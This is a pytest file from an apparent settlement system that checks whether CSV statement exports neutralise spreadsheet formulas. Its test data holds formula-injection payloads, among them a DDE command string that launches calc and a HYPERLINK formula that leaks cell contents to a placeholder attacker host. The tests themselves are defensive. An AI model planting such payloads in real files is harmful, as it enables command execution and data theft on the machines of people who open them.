"""CSV exports neutralise spreadsheet formulas in text from outside (statements here; run breaks in
tests/reconciliation/test_reports.py)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal

import pytest

from common.exports import csv_cell
from settlement.statements import AssetStatement, Statement, StatementLine, statement_csv

pytestmark = pytest.mark.django_db
AT = datetime(2026, 3, 2, 10, 0, tzinfo=UTC)
FORMULAS = ['=HYPERLINK("http://x","y")', "+1+1", "-2+3", "@SUM(A1:A2)", "\tcmd", "\r=1", "=cmd|' /C calc'!A0"]


def test_csv_cell_neutralises_formulas_and_keeps_numbers():
    # given / when / then every formula prefix gets a leading apostrophe; numbers and text stay
    assert [csv_cell(value) for value in FORMULAS] == ["'" + value for value in FORMULAS]
    assert [csv_cell(v) for v in ("-12.50", "+3", "42", Decimal("-1.5"), 7, "ACME Ltd", "")] == [
        "-12.50",
        "+3",
        "42",
        Decimal("-1.5"),
        7,
        "ACME Ltd",
        "",
    ]


def test_statement_csv_neutralises_formulas_in_references_and_memos(usd, alice):
    # given a statement line whose reference and memo came from outside
    line = StatementLine(
        at=AT,
        journal_id=1,
        kind="deposit",
        reference='=HYPERLINK("http://evil.example/?"&A1,"click")',
        memo="@SUM(1+1)",
        amount=Decimal("-10.00"),
        fee=Decimal("0"),
        balance=Decimal("90.00"),
    )
    statement = Statement(
        participant=alice, start=AT, end=AT, assets=[AssetStatement(asset=usd, opening=Decimal("100"), lines=[line])]
    )
    # when
    rows = list(csv.reader(io.StringIO(statement_csv(statement))))
    # then the text cells are inert and the amounts stay numbers
    body = rows[2]
    assert body[5] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert body[6] == "'@SUM(1+1)"
    assert body[7] == "-10.00"
